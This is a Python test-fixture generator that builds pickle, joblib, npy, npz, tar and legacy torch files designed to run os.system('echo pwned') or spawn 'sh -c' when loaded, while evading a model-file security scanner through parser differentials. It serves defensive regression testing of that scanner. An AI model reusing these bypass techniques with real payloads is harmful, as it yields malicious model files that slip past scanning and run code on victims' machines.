"""Scanner bypasses found in review, as regression files for tests/bypasses.rs.

  bypasses.py OUTDIR

Each gen_* returns (file name, bytes) of a file a real loader (pickle.load, joblib.load,
numpy.load(allow_pickle=True), torch.load, zipfile) would use to run os.system, built the
way the review found the scanner misread it. Writes them into OUTDIR with manifest.json:
[{"file", "expect"}], "expect" the least severity the scanner must report. Loader
behaviour was checked with instrumented loaders only (find_class returning a recording
stub). Payloads call os.system('echo pwned'): NEVER load these files.
"""
import json, os, struct, sys, zlib, io, zipfile

CMD = b"echo pwned"

def u32(n): return struct.pack("<I", n)
def binunicode(s): s = s.encode(); return b"X" + u32(len(s)) + s
def os_system_p0(cmd=CMD):
    """protocol-0 style os.system(cmd) call that leaves the stack as it was."""
    return b"cos\nsystem\n(S'" + cmd + b"'\ntR0"

# ---------------------------------------------------------------- joblib
def gen_joblib_reduce_wrapper():
    """NumpyArrayWrapper built by REDUCE (not NEWOBJ): the scanner does not know joblib
    reads array bytes after its BUILD, so it parses the 5 raw array bytes as a BINBYTES
    header that swallows the payload; joblib skips 5 bytes and runs the payload."""
    payload = b"N0" + os_system_p0()
    wrapper = (b"\x80\x02" + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n" + b"(" +
               b"cnumpy\nndarray\n" + b"K\x05\x85" + binunicode("C") +
               b"cnumpy\ndtype\n" + binunicode("u1") + b"\x85R" +
               b"\x89" + b"N" + b"tR" + b"}b")
    raw = b"B" + u32(len(payload))          # the 5 'array' bytes joblib skips
    return "reduce_wrapper.joblib", wrapper + raw + payload + b"."


def _wrapper_newobj(dtype_ops, shape=b"K\x01\x85"):
    """NumpyArrayWrapper the way joblib writes it (NEWOBJ + BUILD dict), without the
    alignment entry (joblib <= 1.1 files: no padding byte)."""
    return (b"\x80\x02" + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" +
            b"}(" + binunicode("subclass") + b"cnumpy\nndarray\n" +
            binunicode("shape") + shape + binunicode("order") + binunicode("C") +
            binunicode("dtype") + dtype_ops + binunicode("allow_mmap") + b"\x89" + b"ub")

def gen_joblib_dtype_state6():
    """numpy.dtype('V8') + BUILD with a 6-item state: numpy takes elsize from item 4 (5),
    the scanner from item 5 (the alignment, 1). joblib skips 8 bytes, the scanner 1."""
    dtype = (b"cnumpy\ndtype\n" + binunicode("V8") + b"\x89\x88\x87R" +
             b"(K\x01" + binunicode("|") + b"NNK\x08K\x01tb")
    payload = b"N0" + os_system_p0()
    raw = b"." + b"C" + bytes([5 + len(payload)]) + b"AAAAA"   # 8 bytes: what joblib skips
    return "dtype_state6.joblib", _wrapper_newobj(dtype) + raw + payload + b"."

def gen_joblib_duplicate_shape():
    """The wrapper's state dict names 'shape' twice: Python keeps the last ((8,)), the
    scanner's dict_get the first ((1,)). joblib skips 8 bytes, the scanner 1."""
    dtype = b"cnumpy\ndtype\n" + binunicode("u1") + b"\x85R"
    hdr = _wrapper_newobj(dtype).replace(b"\x89ub", b"\x89" + binunicode("shape") + b"K\x08\x85ub")
    payload = b"N0" + os_system_p0()
    raw = b"." + b"C" + bytes([5 + len(payload)]) + b"AAAAA"
    return "duplicate_shape.joblib", hdr + raw + payload + b"."

def gen_joblib_build_tuple_state():
    """BUILD with a (None, slotstate) state: Python sets the attributes with setattr and
    joblib still reads the array; the scanner only handles a dict state."""
    hdr = (b"\x80\x02" + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" +
           b"N}(" + binunicode("subclass") + b"cnumpy\nndarray\n" +
           binunicode("shape") + b"K\x05\x85" + binunicode("order") + binunicode("C") +
           binunicode("dtype") + b"cnumpy\ndtype\n" + binunicode("u1") + b"\x85R" +
           binunicode("allow_mmap") + b"\x89" + b"u\x86b")
    payload = b"N0" + os_system_p0()
    raw = b"B" + u32(len(payload))
    return "build_tuple_state.joblib", hdr + raw + payload + b"."

# ---------------------------------------------------------------- npy
def npy(descr_src, body, version=1):
    hdr = ("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr_src).encode("latin1")
    pre = 10 if version == 1 else 12
    pad = 64 - (pre + len(hdr) + 1) % 64
    hdr = hdr + b" " * pad + b"\n"
    ln = struct.pack("<H", len(hdr)) if version == 1 else u32(len(hdr))
    return b"\x93NUMPY" + bytes([version, 0]) + ln + hdr + body

EVIL_PICKLE = b"\x80\x02" + os_system_p0()[:-1] + b"."   # os.system(...) as the array

def gen_npy_descr_lt_O():
    """descr '<O': numpy.dtype('<O') is object, the header check only knows '|O'/'O'."""
    return "lt_O.npy", npy("'<O'", EVIL_PICKLE)

def gen_npy_descr_O8():
    return "O8.npy", npy("'|O8'", EVIL_PICKLE)

def gen_npy_descr_object():
    return "object.npy", npy("'object'", EVIL_PICKLE)

def gen_npy_descr_escape():
    """ast.literal_eval decodes the escape: '\\x4f' is 'O'."""
    return "escape.npy", npy("'\\x4f'", EVIL_PICKLE, version=3)

def gen_npy_descr_struct():
    """a structured dtype whose object field is spelled 'object'."""
    return "struct.npy", npy("[('a', '<i8'), ('b', 'object')]", EVIL_PICKLE)

# ---------------------------------------------------------------- zip
def local_header(name, method, csize, usize, crc, flags=0):
    return (b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 0x21,
            crc, csize, usize, len(name), 0) + name)

def central_header(name, method, csize, usize, crc, offset, flags=0):
    return (b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, flags, method, 0,
            0x21, crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset) + name)

def eocd(entries, cd_size, cd_offset, comment_len):
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, entries, entries, cd_size,
                                        cd_offset, comment_len)

def gen_zip_two_end_records():
    """Two end-of-central-directory records. Python's zipfile (numpy.load of .npz) takes
    the LAST signature (rfind) whatever its comment length; mlguard prefers the last one
    whose comment length reaches the end of the file, and reports nothing when one does.
    The scanner's directory says 'arr.npy' is stored (raw deflate bytes: not a format);
    Python's says it is deflated: an object .npy whose pickle calls os.system."""
    name = b"arr.npy"
    inner = npy("'|O'", EVIL_PICKLE)                 # plain '|O': the inner file is ordinary
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    d = co.compress(inner) + co.flush()
    crc = zlib.crc32(inner)
    lh = local_header(name, 0, len(d), len(d), zlib.crc32(d))
    body = lh + d
    cd_a = central_header(name, 0, len(d), len(d), zlib.crc32(d), 0)
    cd_a_off = len(body)
    cd_b = central_header(name, 8, len(d), len(inner), crc, 0)
    cd_b_off = cd_a_off + len(cd_a) + 22
    eocd_b = eocd(1, len(cd_b), cd_b_off, 1)          # claims a 1-byte comment: not "exact"
    eocd_a = eocd(1, len(cd_a), cd_a_off, len(cd_b) + len(eocd_b))   # exact: reaches EOF
    return "two_end_records.npz", body + cd_a + eocd_a + cd_b + eocd_b

def gen_zip_cd_offset_concat():
    """zipfile never reads the central directory at the end record's offset: it reads
    it at (end record - cd size) and shifts every header offset by the difference
    ("concat", for prepended data). mlguard reads at the stated offset whenever a
    central-directory signature is there. A decoy directory sits at the stated offset;
    the real one, right before the end record, names a member whose local header is
    hidden inside the decoy member's data (which the local-header walk skips)."""
    evil = npy("'|O'", EVIL_PICKLE)
    hidden = local_header(b"arr.npy", 0, len(evil), len(evil), zlib.crc32(evil)) + evil
    data1 = b"\xff\xfe" + b"\x00" * 62 + hidden                   # not a format: 'Other'
    lh1 = local_header(b"blob.bin", 0, len(data1), len(data1), zlib.crc32(data1))
    body = lh1 + data1
    hidden_at = len(lh1) + 64
    decoy_off = len(body)
    decoy = central_header(b"blob.bin", 0, len(data1), len(data1), zlib.crc32(data1), 0)
    concat = len(decoy)
    real = central_header(b"arr.npy", 0, len(evil), len(evil), zlib.crc32(evil),
                          hidden_at - concat)
    end = eocd(1, len(real), decoy_off, 0)
    return "cd_offset_concat.npz", body + decoy + real + end

def gen_zip_entry_count():
    """The end record says 1 entry; the central directory (by its size) holds 2. zipfile
    reads entries until cd size is consumed (the count is ignored); mlguard reads
    'entries' headers. The second entry's local header hides in the first's data."""
    evil = npy("'|O'", EVIL_PICKLE)
    hidden = local_header(b"arr.npy", 0, len(evil), len(evil), zlib.crc32(evil)) + evil
    data1 = b"\xff\xfe" + b"\x00" * 14 + hidden
    lh1 = local_header(b"blob.bin", 0, len(data1), len(data1), zlib.crc32(data1))
    body = lh1 + data1
    cd = (central_header(b"blob.bin", 0, len(data1), len(data1), zlib.crc32(data1), 0) +
          central_header(b"arr.npy", 0, len(evil), len(evil), zlib.crc32(evil), len(lh1) + 16))
    return "entry_count.npz", body + cd + eocd(1, len(cd), len(body), 0)

# ---------------------------------------------------------------- text sniffing
def gen_text_unknown_import():
    """Protocol-0 pickle, valid UTF-8, that imports and calls an unknown callable and
    then ends without STOP: detect() calls it Text (no clean STOP, nothing *dangerous*),
    so the unknown call (promised: medium) is reported at info only. pickle.loads imports
    and calls mymod.run('x') before it fails on the missing STOP."""
    return "unknown_call.pkl", b"cmymod\nrun\n(S'x'\ntR"

def gen_text_joblib_nested():
    """Valid-UTF-8 joblib stream (the NEWOBJ byte 0x81 follows a SHORT_BINBYTES body
    ending in 0xC2, so the pair decodes as U+0081). Its NumpyArrayWrapper holds an
    object array whose nested pickle calls os.system; the outer stream then ends
    without STOP. detect() only looks at top-level imports (the os.system is in
    Analysis.nested) and the truncation makes it 'Text': info only, exit 0.
    joblib.load runs the nested pickle before it hits the end of the file."""
    outer = (b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n" + b"C\x01\xc2" + b"\x81" +
             b"}(Vdtype\ncnumpy\ndtype\n(VO\ntRVshape\n(I1\ntVorder\nVC\n" +
             b"Vsubclass\ncnumpy\nndarray\nub")
    nested = os_system_p0()[:-1] + b"."
    return "text_nested.joblib", outer + nested

# ---------------------------------------------------------------- format detection
def tar_header(name_field, size=0, typeflag=b"0"):
    h = bytearray(512)
    h[0:len(name_field)] = name_field
    h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size; h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8; h[156:157] = typeflag
    h[257:263] = b"ustar\0"; h[263:265] = b"00"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)

def gen_tar_polyglot_pickle():
    """A protocol-0 pickle (no PROTO byte) that fits in a tar header's name field and is
    followed by the rest of a valid ustar header. detect() tests is_tar before the
    protocol 0/1 opcode sniffing, so mlguard reads a tar with one empty member (text:
    info). pickle.load / joblib.load read the pickle from byte 0, call os.system and stop
    at its STOP; the header bytes after it are never read."""
    pkl = os_system_p0()[:-1] + b"."
    assert len(pkl) < 100 and b"\0" not in pkl
    return "tar_polyglot.pkl", tar_header(pkl) + b"\0" * 1024

def gen_joblib_frame_after_build():
    """Protocol 4: the FRAME holding the wrapper's BUILD goes on after it (Y). pickle.py
    (joblib's unpickler) has read the whole frame into memory, so joblib reads the
    array from the file after the frame (A), then runs Y from the frame buffer, then
    the rest of the file (Z). mlguard drops the frame at BUILD and takes the array from
    right after BUILD (Y), then parses A and Z as opcodes: A is a BINBYTES header that
    swallows Z (its shadow read of Y+A+Z swallows Z the same way)."""
    dtype = b"cnumpy\ndtype\n" + binunicode("u1") + b"\x85R"
    hdr = _wrapper_newobj(dtype, shape=b"K\x05\x85")[2:]      # without PROTO
    Y = b"N0N0N"                                              # 5 bytes, run by joblib
    Z = b"0N0" + os_system_p0()                                # payload, after the array
    A = b"B" + u32(len(Z))                                    # the 5 'array' bytes
    frame = hdr + Y
    return "frame_after_build.joblib", (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) +
                                        frame + A + Z + b".")

# ---------------------------------------------------------------- safe-rated module objects
def _attr_chain(root_mod, root_name, attr, call_args=None):
    p = b"coperator\nattrgetter\n(S'" + attr + b"'\ntR" + b"(c" + root_mod + b"\n" + root_name + b"\ntR"
    if call_args is not None:
        p += b"(" + call_args + b"tR"
    return p + b"."

def gen_safe_star_module_os():
    """getopt is rated 'getopt * safe' (pure functions), so every attribute of it is safe,
    including the os module it imports: getopt.os. operator.attrgetter is allowlisted and
    'spawnlp' is neither a dunder nor a dangerous-table name, so attrgetter('spawnlp')
    (getopt.os) -> os.spawnlp, then called: os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', cmd).
    Only safe imports: exit 0."""
    args = b"I0\nS'sh'\nS'sh'\nS'-c'\nS'" + CMD + b"'\n"
    return "getopt_os.pkl", _attr_chain(b"getopt", b"os", b"spawnlp", args)

def gen_safe_star_module_fnmatch():
    """Same with fnmatch.os ('fnmatch * safe'). Other safe-rated module objects:
    statistics.sys, urllib.parse.sys, html._re, and __builtins__ (the builtins module) of
    the Cython modules pandas._libs.tslibs.offsets and scipy.special._ufuncs."""
    args = b"I0\nS'sh'\nS'sh'\nS'-c'\nS'" + CMD + b"'\n"
    return "fnmatch_os.pkl", _attr_chain(b"fnmatch", b"os", b"spawnlp", args)

def gen_attrgetter_untracked_names():
    """attrgetter's name check reads its arguments from a tracked tuple; a tuple of more
    than 32 items is not tracked (Sym::Other), so no name is checked at all, even
    'system'. attrgetter('system' x 33)(fnmatch.os) is a tuple of os.system; itemgetter(0)
    (allowlisted, never 'dangerous') takes one out; it is called."""
    names = b"".join(b"S'system'\n" for _ in range(33))
    p = (b"coperator\nitemgetter\n(I0\ntR" +                  # ig = itemgetter(0)
         b"(coperator\nattrgetter\n(" + names + b"tR" +         # ag = attrgetter(*names)
         b"(cfnmatch\nos\ntRtR" +                               # ig((ag(os),)) -> os.system
         b"(S'" + CMD + b"'\ntR.")
    return "attrgetter_33.pkl", p

def zip64_record(entries, cd_size, cd_offset):
    return b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, entries, entries,
                                        cd_size, cd_offset)

def gen_zip64_locator_offset():
    """zipfile (3.11) ignores the zip64 locator's offset and reads the zip64 end record
    at a fixed place (right before the locator); mlguard follows the locator's offset.
    The locator points at a decoy zip64 record (-> decoy directory); the record zipfile
    reads names the member hidden in the decoy member's data."""
    evil = npy("'|O'", EVIL_PICKLE)
    hidden = local_header(b"arr.npy", 0, len(evil), len(evil), zlib.crc32(evil)) + evil
    data1 = b"\xff\xfe" + b"\x00" * 14 + hidden
    lh1 = local_header(b"blob.bin", 0, len(data1), len(data1), zlib.crc32(data1))
    out = lh1 + data1
    decoy = central_header(b"blob.bin", 0, len(data1), len(data1), zlib.crc32(data1), 0)
    off_decoy = len(out); out += decoy
    off_r1 = len(out); out += zip64_record(1, len(decoy), off_decoy)
    real = central_header(b"arr.npy", 0, len(evil), len(evil), zlib.crc32(evil), len(lh1) + 16)
    off_real = len(out); out += real
    out += zip64_record(1, len(real), off_real)
    out += b"PK\x06\x07" + struct.pack("<IQI", 0, off_r1, 1)
    out += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return "zip64_locator.npz", out

def gen_zip_member_named_config_json():
    """Any zip member whose name ends with 'config.json' is only parsed as a Keras config
    (serde_json); when it is not JSON, nothing is reported and it is never scanned by
    content. numpy's NpzFile opens it by content: dict(np.load(f, allow_pickle=True))
    reads the .npy magic and unpickles the object array."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("config.json", npy("'|O'", EVIL_PICKLE))
    return "config_json_member.npz", buf.getvalue()

def gen_attrgetter_name_from_call():
    """Same, the name built by a safe call (builtins.str('system') is Sym::Other, not a
    string the check can read): attrgetter(str('system'))(getopt.os)('echo pwned')."""
    p = (b"coperator\nattrgetter\n(cbuiltins\nstr\n(S'system'\ntRtR" +
         b"(cgetopt\nos\ntR" + b"(S'" + CMD + b"'\ntR.")
    return "attrgetter_str.pkl", p

# ---------------------------------------------------------------- severity: called, seen as imported
def gen_partial_kwargs_in_state():
    """functools.partial(sorted) whose BUILD state sets keywords {'key': os.system}; calling
    it runs sorted(['echo pwned'], key=os.system). os.system is reported 'imports' (high),
    not 'calls' (critical): wrapper arguments are only collected from the call's tuple."""
    p = (b"cfunctools\npartial\n(cbuiltins\nsorted\ntR" +
         b"(cbuiltins\nsorted\n)(S'key'\ncos\nsystem\ndNtb" +
         b"((S'" + CMD + b"'\nltR.")
    return "partial_state_kwargs.pkl", p

def gen_copyreg_reconstructor_init():
    """copyreg._reconstructor(cls, base, state) (rated safe) runs base.__init__(obj, state)
    for any non-object base: _reconstructor(Popen, Popen, ['sh','-c',cmd]) starts a
    process. Reported as an import of subprocess.Popen (high), not a call (critical)."""
    p = (b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\n" +
         b"(S'sh'\nS'-c'\nS'" + CMD + b"'\nltR.")
    return "reconstructor_popen.pkl", p

def gen_legacy_torch_tar_storage_size():
    """Legacy tar torch.save (storages member): torch takes a record's element size from
    storage_type = the 3rd item of its (key, location, storage_type) tuple; mlguard from
    the LAST '*Storage' import in the record's pickle. Record 1 holds FloatStorage (4
    bytes, memoised) and a popped ByteStorage import (1 byte): torch skips 4*N bytes,
    mlguard N. Where mlguard then reads a record (a SHORT_BINBYTES that swallows it),
    torch reads its 2nd record: os.system. (Not run against torch: not installed.)"""
    import tarfile
    N = 5
    rec1 = (b"\x80\x02ctorch\nFloatStorage\nq\x000ctorch\nByteStorage\n0(" +
            binunicode("0") + binunicode("cpu") + b"h\x00t.")
    evil = b"\x80\x02" + os_system_p0()[:-1] + b"."
    filler = b"A" * (4 * N - N - 2)                 # up to torch's next record
    fake = b"C" + bytes([len(filler) + len(evil)]) + filler + evil + b"0ctorch\nByteStorage\n."
    assert fake[2 + len(filler):].startswith(evil)    # torch's record 2 = 3N bytes into fake
    storages = b"\x80\x02K\x02." + rec1 + struct.pack("<q", N) + b"\x00" * N + fake + struct.pack("<q", 0)
    # torch: after N*4 bytes from the data start it reads record 2; mlguard after N bytes.
    # Layout check: data starts at d; mlguard's record at d+N is 'fake'; torch's at d+4N
    # must be 'evil': fake = C len filler evil..., so d+N+2+len(filler) == d+4N.
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, body in [("sys_info", b"\x80\x02}q\x00."), ("pickle", b"\x80\x02N."),
                           ("storages", storages), ("tensors", b"\x80\x02K\x00.")]:
            ti = tarfile.TarInfo(name); ti.size = len(body); t.addfile(ti, io.BytesIO(body))
    return "legacy_tar.pt", buf.getvalue()

def gen_legacy_torch_tar_without_sys_info():
    """mlguard only treats a tar as a legacy torch.save when it has BOTH 'sys_info' and
    'pickle' members; torch's legacy_load never reads sys_info (it extracts 'storages',
    'tensors', 'pickle'). Without sys_info the 'storages' member is read as a plain pickle
    stream: after the first record's STOP comes the raw element count (not an opcode), so
    the rest is 'junk after STOP' (low) and never parsed. torch reads the storage data and
    then unpickles the next record: os.system. (Not run against torch: not installed.)"""
    import tarfile
    N = 2
    rec1 = (b"\x80\x02ctorch\nFloatStorage\nq\x00(" + binunicode("0") + binunicode("cpu") +
            b"h\x00t.")
    evil = b"\x80\x02" + os_system_p0()[:-1] + b"."
    storages = b"\x80\x02K\x02." + rec1 + struct.pack("<q", N) + b"\x00" * (4 * N) + evil
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, body in [("storages", storages), ("tensors", b"\x80\x02K\x00."),
                           ("pickle", b"\x80\x02N.")]:
            ti = tarfile.TarInfo(name); ti.size = len(body); t.addfile(ti, io.BytesIO(body))
    return "legacy_tar_no_sys_info.pt", buf.getvalue()

LEGACY_MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19\x2e"
LEGACY_PROTO = b"\x80\x02M\xe9\x03."

def gen_legacy_torch_frame_tail():
    """Legacy (non-tar) torch.save: five pickle.load calls on one open() file. After a
    STOP inside a protocol-4 FRAME, the C unpickler on a file with peek() (every open()
    file: BufferedReader) leaves the file right after the STOP, so the next load reads
    the rest of the frame. mlguard assumes the next load starts after the frame (true
    only for BytesIO or pickle.py) and never parses the frame's tail. The sys_info pickle
    is framed and its frame goes on with the 'main' pickle: os.system. Verified with a
    benign twin: out/frame_tail_benign.pkl loads {} then the frame tail from open().
    (Not run against torch.)"""
    evil = b"\x80\x02" + os_system_p0()[:-1] + b"."
    frame = b"}." + evil
    sys_info = b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
    return "legacy_frame_tail.pt", (LEGACY_MAGIC + LEGACY_PROTO + sys_info +
                                     b"\x80\x02N." + b"\x80\x02]." + b"\x00" * 16)


def gen_joblib_object_array_inner_frame():
    """Object array: joblib reads its nested pickle with a fresh pickle.py Unpickler on the
    file; pickle.py reads a whole FRAME from the file, so after the nested STOP the file
    (and the outer unpickler) is at the END of the nested frame. mlguard resumes the
    outer stream right after the nested STOP: the rest of the nested frame (T, a
    BINBYTES header) swallows what joblib runs next (E: os.system)."""
    dtype = b"cnumpy\ndtype\n" + binunicode("O") + b"\x85R"
    outer = _wrapper_newobj(dtype)
    E = b"N0" + os_system_p0()
    T = b"B" + u32(len(E))
    inner_frame = b"cnumpy\nfloat64\n)R." + T
    inner = b"\x80\x04\x95" + struct.pack("<Q", len(inner_frame)) + inner_frame
    return "object_array_inner_frame.joblib", outer + inner + E + b"."

GENS = [v for k, v in sorted(globals().items()) if k.startswith("gen_")]

# The least severity expected: an unknown callable is medium, everything else reaches a
# dangerous call.
EXPECT = {"gen_text_unknown_import": "medium"}

def write_cases(out, gens, expect, extra=None):
    """Writes each generator's file into OUT and manifest.json: [{"file", "generator",
    "expect"[, what a test must do beyond scanning the file]}]."""
    os.makedirs(out, exist_ok=True)
    manifest = []
    for g in gens:
        name, data = g()
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        entry = {"file": name, "generator": g.__name__, "expect": expect.get(g.__name__, "critical")}
        entry.update((extra or {}).get(g.__name__, {}))
        manifest.append(entry)
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)


if __name__ == "__main__":
    write_cases(sys.argv[1], GENS, EXPECT)
